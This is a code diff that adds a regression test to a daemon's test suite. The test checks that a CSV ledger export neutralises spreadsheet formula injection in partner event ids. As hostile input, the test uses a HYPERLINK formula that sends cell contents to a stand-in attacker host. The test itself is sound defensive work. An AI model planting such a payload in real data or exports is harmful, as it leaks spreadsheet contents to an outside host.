@@ -4,6 +4,8 @@ for its mailbox side), and the ledger they move."""
 from __future__ import annotations
 
 import asyncio
+import csv
+import io
 import json
 import signal
 import subprocess
@@ -404,3 +406,19 @@ def test_kill9_during_a_burst_keeps_every_acknowledged_callback(
             assert post(base, body).status_code == 200
     final = balance(config, env)
     assert (final["registrations"], final["slots_earned"], final["verified"]) == (400, 40, True)
+
+
+def test_a_formula_in_a_partner_event_id_is_text_in_the_ledger_export(
+        tmp_path: Path, imap_account: ImapAccount, env: dict[str, str]) -> None:
+    """Issue 21: `ledger export --csv` wrote a partner's event id verbatim, so a spreadsheet ran
+    it: `=HYPERLINK("http://evil.example/?x="&A1,"click")`."""
+    config, base = write_config(tmp_path, imap_account)
+    add_candidates(config, 1)
+    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    with DaemonThread(config):
+        assert post(base, event(hostile, ref(0))).status_code == 200
+    done = cli(config, env, "ledger", "export", "--csv")
+    assert done.returncode == 0, done.stderr
+    cells = [cell for row in csv.reader(io.StringIO(done.stdout)) for cell in row]
+    assert "'" + hostile in cells
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
